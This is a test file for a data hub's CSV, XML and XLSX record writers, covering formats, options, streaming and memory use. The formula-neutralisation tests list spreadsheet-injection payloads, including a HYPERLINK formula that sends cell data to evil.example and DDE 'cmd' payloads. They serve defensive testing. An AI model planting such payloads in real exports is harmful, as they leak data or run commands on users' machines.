// The file writers: what each format writes (checked by reading it back with the hub's own readers), formula
// neutralisation, option errors, and the streaming promises: records pulled only as bytes are read, a failing
// source ends the stream with its error, a consumer that stops releases the source, memory stays flat.
import { pbkdf2 } from 'node:crypto';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { thrownHubError } from '../../test/hub-error.ts';
import { HubError } from '../errors.ts';
import { readCsv } from './csv.ts';
import { drain, retainedHeap, unzip } from './testing.ts';
import { neutralizeCell, writeRecords, xmlElementName, type WriteSpec } from './write.ts';
import { readXlsx } from './xlsx.ts';
import { readXml } from './xml.ts';

type Rec = Record<string, unknown>;

async function bytesOf(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

const write = (records: Rec[], spec: WriteSpec) => bytesOf(writeRecords(records, spec));
const csvText = async (records: Rec[], options?: Extract<WriteSpec, { format: 'csv' }>['options']) => (await write(records, { format: 'csv', options })).toString('utf8');

async function readBack(reader: AsyncIterable<import('./types.ts').ReadItem<Rec>>): Promise<Rec[]> {
  const { values, failure, items } = await drain(reader);
  expect(failure).toBeNull();
  expect(items.every((i) => i.kind === 'record')).toBe(true);
  return values;
}

/** Records that count how many were pulled and whether the source was closed, failing at `failAt` if given. */
function source(total: number, options: { failAt?: number; error?: Error } = {}) {
  const state = { pulled: 0, closed: false };
  async function* records(): AsyncGenerator<Rec> {
    try {
      for (let i = 0; i < total; i++) {
        if (i === options.failAt) throw options.error ?? new Error('the store went away');
        state.pulled++;
        yield { sku: `SKU-${i}`, name: `Product ${i}`, onHand: i % 1000, cost: '12.50' };
      }
    } finally {
      state.closed = true;
    }
  }
  return { state, records: records() };
}

const turns = async (n: number) => {
  for (let i = 0; i < n; i++) await new Promise((r) => setTimeout(r, 2));
};

const ALL: WriteSpec[] = [{ format: 'csv' }, { format: 'xml' }, { format: 'xlsx' }];

describe('neutralizeCell', () => {
  it('puts a quote before text a spreadsheet would run as a formula', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '=1+2', '\t=1+2', '\r=1+2', '-', '+', '=', '-1-1', '+1+1', '--5', '-5e', '@'];
    for (const a of attacks) expect(neutralizeCell(a)).toBe(`'${a}`);
  });

  it('leaves plain numbers, other text and the empty string alone', () => {
    for (const ok of ['-5', '-12.50', '+3', '+1.5e3', '-.5', '-5.', '1e-7', 'Widget', "'=already quoted", ' =1+2', 'a=b', '', '12-5', 'SKU-1']) expect(neutralizeCell(ok)).toBe(ok);
  });
});

describe('CSV', () => {
  it('writes a header and one line per record, read back by readCsv as the same text', async () => {
    const records = [
      { sku: 'A-1', name: 'Mug, large', note: 'says "hi"', multi: 'line 1\r\nline 2\nline 3', qty: 5, price: -12.5, active: true, gone: null, unicode: 'Größe 📦' },
      { sku: 'B-2', name: '', note: ' padded ', multi: '', qty: 0, price: 1e21, active: false, gone: undefined, unicode: '' },
    ];
    const values = await readBack(readCsv(writeRecords(records, { format: 'csv' })));
    expect(values).toEqual([
      { sku: 'A-1', name: 'Mug, large', note: 'says "hi"', multi: 'line 1\r\nline 2\nline 3', qty: '5', price: '-12.5', active: 'true', gone: '', unicode: 'Größe 📦' },
      { sku: 'B-2', name: '', note: ' padded ', multi: '', qty: '0', price: '1e+21', active: 'false', gone: '', unicode: '' },
    ]);
  });

  it('flattens nested objects into dotted columns and writes arrays as JSON text', async () => {
    const text = await csvText([{ id: 1, address: { city: 'Köln', geo: { lat: 50.9 } }, tags: ['a', 'b'], lines: [{ sku: 'X', quantity: 2 }] }]);
    expect(text).toBe('id,address.city,address.geo.lat,tags,lines\r\n1,Köln,50.9,"[""a"",""b""]","[{""sku"":""X"",""quantity"":2}]"\r\n');
  });

  it('neutralises formulas in values and in the header, but not numbers', async () => {
    const text = await csvText([{ '=cmd': '=1+2', qty: -5, amount: '-12.50', at: '@SUM(A1)', tab: '\t=1' }]);
    expect(text).toBe(`'=cmd,qty,amount,at,tab\r\n'=1+2,-5,-12.50,'@SUM(A1),"'\t=1"\r\n`);
  });

  it('quotes fields that hold another common delimiter, so a spreadsheet splitting on it cannot expose a formula', async () => {
    expect(await csvText([{ a: 'x;=1+1', b: 'y|z', c: 'plain' }])).toBe('a,b,c\r\n"x;=1+1","y|z",plain\r\n');
  });

  it('takes the columns of the first record, leaves out later unknown keys and counts them', async () => {
    // address is null in the first record, so its column names an object for the later ones: they hold JSON.
    const stream = writeRecords(
      [
        { sku: 'A', address: null },
        { sku: 'B', address: { city: 'Bonn' }, extra: 1 },
        { sku: 'C', extra: 2 },
      ],
      { format: 'csv' },
    );
    expect((await bytesOf(stream)).toString()).toBe('sku,address\r\nA,\r\nB,"{""city"":""Bonn""}"\r\nC,\r\n');
    expect(stream.stats).toEqual({ records: 3, droppedValues: 2, droppedColumns: ['extra'], truncatedCells: 0 });
  });

  it('writes the given columns in their order; a column naming an object holds its JSON', async () => {
    const stream = writeRecords([{ sku: 'A', customer: { name: 'Ann', vip: true }, total: 3, secret: 'x' }, { sku: 'B', customer: null }], {
      format: 'csv',
      options: { columns: ['total', 'customer', 'sku', 'missing'] },
    });
    expect((await bytesOf(stream)).toString()).toBe('total,customer,sku,missing\r\n3,"{""name"":""Ann"",""vip"":true}",A,\r\n,,B,\r\n');
    expect(stream.stats.droppedColumns).toEqual(['secret']);
  });

  it('follows delimiter, quote, header, bom and recordDelimiter', async () => {
    const records = [{ a: "it's", b: 'x;y', c: 1.5 }];
    const bytes = await write(records, { format: 'csv', options: { delimiter: ';', quote: "'", header: false, bom: true, recordDelimiter: 'lf' } });
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bytes.toString('utf8')).toBe("\uFEFF'it''s';'x;y';1.5\n");
    const values = await readBack(readCsv(Readable.from([bytes]), { delimiter: ';', quote: "'", header: false, columns: ['a', 'b', 'c'] }));
    expect(values).toEqual([{ a: "it's", b: 'x;y', c: '1.5' }]);
  });

  it('quotes a record whose only field is empty, which would otherwise be a blank line', async () => {
    // RFC 4180 readers (Excel, Python's csv) take "" as a record; readCsv skips it like a blank line, its choice.
    expect(await csvText([{ note: 'a' }, { note: '' }, { note: null }])).toBe('note\r\na\r\n""\r\n""\r\n');
  });

  it('writes only the header for no records when the columns are given, and nothing otherwise', async () => {
    expect(await csvText([], { columns: ['a', 'b'] })).toBe('a,b\r\n');
    expect(await csvText([])).toBe('');
  });
});

describe('XML', () => {
  const xml = async (records: Rec[], options?: Extract<WriteSpec, { format: 'xml' }>['options']) => (await write(records, { format: 'xml', options })).toString('utf8');

  it('writes nested objects as elements and arrays as repeated elements, read back by readXml as the same values', async () => {
    const records = [
      { sku: 'A&B <1>', qty: 5, price: -1.25, active: true, note: null, address: { city: 'Köln', zip: '50667' }, tags: ['x', 'y'], lines: [{ sku: 'L1', quantity: 2 }], text: 'a "quoted" \'one\' ]]> end', multi: 'one\r\ntwo\nthree' },
      { sku: 'C', qty: 0, tags: ['only'], lines: [{ sku: 'L2', quantity: 1 }, { sku: 'L3', quantity: 4 }], emoji: '📦' },
    ];
    const values = await readBack(readXml(writeRecords(records, { format: 'xml' }), { recordPath: 'Records/Record', isArray: ['tags', 'lines'] }));
    expect(values).toEqual([
      { sku: 'A&B <1>', qty: '5', price: '-1.25', active: 'true', note: '', address: { city: 'Köln', zip: '50667' }, tags: ['x', 'y'], lines: [{ sku: 'L1', quantity: '2' }], text: 'a "quoted" \'one\' ]]> end', multi: 'one\r\ntwo\nthree' },
      { sku: 'C', qty: '0', tags: ['only'], lines: [{ sku: 'L2', quantity: '1' }, { sku: 'L3', quantity: '4' }], emoji: '📦' },
    ]);
  });

  it('escapes markup and drops characters XML 1.0 cannot hold, so the file stays well-formed', async () => {
    const text = await xml([{ v: 'a\u0000b\u0007c\u001Fd\uFFFEe\uD800f\uDC00g\u{1F600}h\tj', w: '<script>&amp;</script>' }]);
    expect(text).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<Records>\n<Record><v>abcdefg\u{1F600}h\tj</v><w>&lt;script&gt;&amp;amp;&lt;/script&gt;</w></Record>\n</Records>\n');
    expect(await readBack(readXml(Readable.from([Buffer.from(text)]), { recordPath: 'Records/Record' }))).toEqual([{ v: 'abcdefg\u{1F600}h\tj', w: '<script>&amp;</script>' }]);
  });

  it('makes keys that are not XML names into names', async () => {
    expect(['sku', 'size EU', '1st', 'a:b', '', '-x', 'ok.name-1', 'Größe', '📦', 'x\u0000y', '<tag>'].map(xmlElementName)).toEqual([
      'sku',
      'size_EU',
      '_1st',
      'a_b',
      '_',
      '_-x',
      'ok.name-1',
      'Größe',
      '📦',
      'x_y',
      '_tag_',
    ]);
    const values = await readBack(readXml(writeRecords([{ attributes: { 'size EU': '42', '1st': 'yes' } }], { format: 'xml' }), { recordPath: 'Records/Record' }));
    expect(values).toEqual([{ attributes: { size_EU: '42', _1st: 'yes' } }]);
  });

  it('follows rootElement, recordElement and declaration', async () => {
    expect(await xml([{ a: 1 }, {}], { rootElement: 'Stock', recordElement: 'Level', declaration: false })).toBe('<Stock>\n<Level><a>1</a></Level>\n<Level/>\n</Stock>\n');
    expect(await xml([])).toBe('<?xml version="1.0" encoding="UTF-8"?>\n<Records>\n</Records>\n');
  });
});

describe('XLSX', () => {
  it('writes a sheet that readXlsx reads back as the same text, numbers as numeric cells', async () => {
    const records = [
      { sku: 'A-1', name: 'Mug, "large"', qty: 5, price: -12.5, active: true, gone: null, address: { city: 'Köln' }, tags: ['a'], multi: 'line 1\r\nline 2\rline 3', ctl: 'a\u0001b', esc: '_x0041_ stays' },
      { sku: 'B-2', name: '  spaced  ', qty: 0, price: 0.1, active: false, gone: null, address: { city: '' }, tags: [], multi: '', ctl: '', esc: '' },
    ];
    const bytes = await write(records, { format: 'xlsx', options: { sheetName: 'Stock' } });
    const values = await readBack(readXlsx(Readable.from([bytes]), { sheet: 'Stock' }));
    expect(values).toEqual([
      // Line breaks become LF and control characters go: a cell holds them no other way readXlsx reads.
      { sku: 'A-1', name: 'Mug, "large"', qty: '5', price: '-12.5', active: 'true', gone: '', 'address.city': 'Köln', tags: '["a"]', multi: 'line 1\nline 2\nline 3', ctl: 'ab', esc: '_x0041_ stays' },
      { sku: 'B-2', name: '  spaced  ', qty: '0', price: '0.1', active: 'false', gone: '', 'address.city': '', tags: '[]', multi: '', ctl: '', esc: '' },
    ]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Stock')!;
    expect(sheet.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('D2').value).toBe(-12.5);
  });

  it('writes formula-looking text as neutralised inline strings, never as formulas', async () => {
    const attacks = ['=1+2', '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
    // A control character in front would be dropped from the cell, and must not leave a bare formula behind.
    const hidden = ['\u0001=1+2', '\u0000\u0007@SUM(1)'];
    const bytes = await write([Object.fromEntries([...attacks, ...hidden].map((a, i) => [`c${i}`, a])), { c0: '-5' }], { format: 'xlsx' });
    const sheetXml = unzip(bytes).find((e) => e.name === 'xl/worksheets/sheet1.xml')!.data.toString('utf8');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    expect(sheetXml).not.toContain('t="str"');
    expect(sheetXml.match(/t="inlineStr"/g)).toHaveLength((attacks.length + hidden.length) * 2 + 1);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const row = book.worksheets[0]!.getRow(2);
    attacks.forEach((a, i) => {
      const cell = row.getCell(i + 1);
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(ExcelJS.ValueType.RichText);
      expect(cell.text).toBe(`'${a}`);
    });
    expect([row.getCell(6).text, row.getCell(7).text]).toEqual(["'=1+2", "'@SUM(1)"]);
    expect(book.worksheets[0]!.getCell('A3').text).toBe('-5');
  });

  it('cuts text to the 32,767 characters a cell can hold and counts it', async () => {
    const stream = writeRecords([{ long: 'x'.repeat(40_000), short: 'y' }], { format: 'xlsx' });
    const values = await readBack(readXlsx(Readable.from([await bytesOf(stream)])));
    expect(values[0]!.long).toHaveLength(32_767);
    expect(stream.stats.truncatedCells).toBe(1);
  });

  it('writes the given columns and no header when asked', async () => {
    const bytes = await write([{ a: 1, b: 'x', c: 'dropped' }], { format: 'xlsx', options: { columns: ['b', 'a'], header: false } });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(book.worksheets[0]!.getRow(1).values).toEqual([undefined, expect.objectContaining({ richText: [{ text: 'x' }] }), 1]);
    expect(book.worksheets[0]!.rowCount).toBe(1);
  });
});

describe('options', () => {
  const cases: [WriteSpec, string][] = [
    [{ format: 'csv', options: { delimiter: '' } }, '/options/delimiter'],
    [{ format: 'csv', options: { delimiter: '\n' } }, '/options/delimiter'],
    [{ format: 'csv', options: { quote: ',' } }, '/options/quote'],
    [{ format: 'csv', options: { quote: '""' } }, '/options/quote'],
    [{ format: 'csv', options: { columns: ['a', 'a'] } }, '/options/columns'],
    [{ format: 'csv', options: { columns: [] } }, '/options/columns'],
    [{ format: 'csv', options: { columns: ['a', ' '] } }, '/options/columns'],
    [{ format: 'csv', options: { recordDelimiter: 'cr' as 'lf' } }, '/options/recordDelimiter'],
    [{ format: 'csv', options: { bom: 'yes' as unknown as boolean } }, '/options/bom'],
    [{ format: 'csv', options: { delimeter: ';' } as object }, '/options/delimeter'],
    [{ format: 'xml', options: { rootElement: '1root' } }, '/options/rootElement'],
    [{ format: 'xml', options: { recordElement: 'ns:Record' } }, '/options/recordElement'],
    [{ format: 'xml', options: { recordElement: 'a b' } }, '/options/recordElement'],
    [{ format: 'xlsx', options: { sheetName: 'a/b' } }, '/options/sheetName'],
    [{ format: 'xlsx', options: { sheetName: 'x'.repeat(32) } }, '/options/sheetName'],
    [{ format: 'xlsx', options: { sheetName: "'quoted'" } }, '/options/sheetName'],
    [{ format: 'xlsx', options: { header: 1 as unknown as boolean } }, '/options/header'],
    [{ format: 'json' } as unknown as WriteSpec, '/options/format'],
  ];

  it.each(cases)('refuses %j before pulling any record', (spec, field) => {
    const { state, records } = source(10);
    const err = thrownHubError(() => writeRecords(records, spec));
    expect(err.code).toBe('validation_failed');
    expect(err.errors).toEqual([expect.objectContaining({ field })]);
    expect(state.pulled).toBe(0);
  });
});

describe('streaming', () => {
  it.each(ALL)('$format: pulls records only as the consumer reads', async (spec) => {
    const { state, records } = source(1_000_000);
    const stream = writeRecords(records, spec);
    await turns(20);
    // Text formats start on the first read; XLSX starts at once but stops when its output is full.
    expect(state.pulled).toBeLessThan(spec.format === 'xlsx' ? 20_000 : 1);
    stream.read();
    await turns(20);
    const filled = state.pulled;
    await turns(20);
    // One read, then none: what fills the stream's buffers (for XLSX also the zip's) is pulled, then it waits.
    expect(state.pulled).toBe(filled);
    expect(filled).toBeGreaterThan(0);
    expect(filled).toBeLessThan(20_000);
    stream.destroy();
  });

  it.each(ALL)('$format: a failing source ends the stream with its error, after what came before', async (spec) => {
    const failure = new HubError('store_unavailable', 'The database is busy');
    const { records } = source(5_000, { failAt: 3_000, error: failure });
    let received = 0;
    const sink = new Writable({
      write(chunk: Buffer, _enc, cb) {
        received += chunk.length;
        cb();
      },
    });
    await expect(pipeline(writeRecords(records, spec), sink)).rejects.toBe(failure);
    expect(received).toBeGreaterThan(0);
  });

  it.each(ALL)('$format: a record that is not an object fails the stream', async (spec) => {
    await expect(bytesOf(writeRecords([{ a: 1 }, null as unknown as Rec], spec))).rejects.toMatchObject({ code: 'validation_failed', errors: [{ field: '/records/1' }] });
  });

  it.each(ALL)('$format: a consumer that stops early releases the source', async (spec) => {
    const { state, records } = source(1_000_000);
    const stream = writeRecords(records, spec);
    for await (const _chunk of stream) break;
    await turns(5);
    expect(state.closed).toBe(true);
    expect(state.pulled).toBeLessThan(50_000);
  });
});

describe('memory', () => {
  /** Memory kept after a full collection: the heap, and the buffers outside it that hold bytes not yet taken. */
  const kept = () => retainedHeap() + process.memoryUsage().arrayBuffers;

  /** Writes `rows` records into a sink that drops the bytes; the most memory kept along the way, over the start. */
  async function run(spec: WriteSpec, rows: number): Promise<{ peak: number; bytes: number }> {
    const before = kept();
    let peak = 0;
    let bytes = 0;
    async function* records(): AsyncGenerator<Rec> {
      for (let i = 0; i < rows; i++) {
        if (i % 20_000 === 0 && i > 0) peak = Math.max(peak, kept() - before);
        yield { sku: `SKU-${i}`, productName: `Product ${i} in a longer name`, locationCode: `WH${i % 4}`, onHand: i % 997, reserved: i % 13, available: (i % 997) - (i % 13), updatedAt: '2026-03-01T12:00:00.000Z' };
      }
    }
    const sink = new Writable({
      write(chunk: Buffer, _enc, cb) {
        bytes += chunk.length;
        cb();
      },
    });
    await pipeline(writeRecords(records(), spec), sink);
    return { peak, bytes };
  }

  it('writes 200,000 CSV rows keeping the heap flat', async () => {
    const { peak, bytes } = await run({ format: 'csv' }, 200_000);
    // Measured: under 1 MB kept. Holding the output (17 MB) or the records would be far above the bound.
    expect(bytes).toBeGreaterThan(15_000_000);
    expect(peak).toBeLessThan(8 * 1024 * 1024);
  });

  it('writes 200,000 XML records keeping the heap flat', async () => {
    const { peak, bytes } = await run({ format: 'xml' }, 200_000);
    expect(bytes).toBeGreaterThan(40_000_000);
    expect(peak).toBeLessThan(8 * 1024 * 1024);
  });

  // exceljs writes some 20-40k rows a second, so fewer rows than the text formats keep the suite quick; what is
  // kept does not grow with the rows (measured: about 1 MB, for 200,000 rows too).
  it('writes 80,000 XLSX rows keeping memory flat', async () => {
    const { peak, bytes } = await run({ format: 'xlsx' }, 80_000);
    expect(bytes).toBeGreaterThan(1_000_000);
    expect(peak).toBeLessThan(8 * 1024 * 1024);
  });

  it('keeps XLSX memory flat when compression falls behind (the thread pool kept busy by other work)', async () => {
    // Compression runs on the thread pool. Kept busy, it fell behind exceljs, which writes a sheet's text into the
    // zip without waiting: over 60,000 rows 12.7 MB piled up (measured), and more with more rows.
    let busy = true;
    const hog = () => {
      if (busy) pbkdf2('hub', 'salt', 30_000, 32, 'sha512', hog);
    };
    for (let i = 0; i < 4; i++) hog();
    try {
      const { peak, bytes } = await run({ format: 'xlsx' }, 60_000);
      expect(bytes).toBeGreaterThan(1_000_000);
      expect(peak).toBeLessThan(8 * 1024 * 1024);
    } finally {
      busy = false;
    }
  }, 60_000);
});
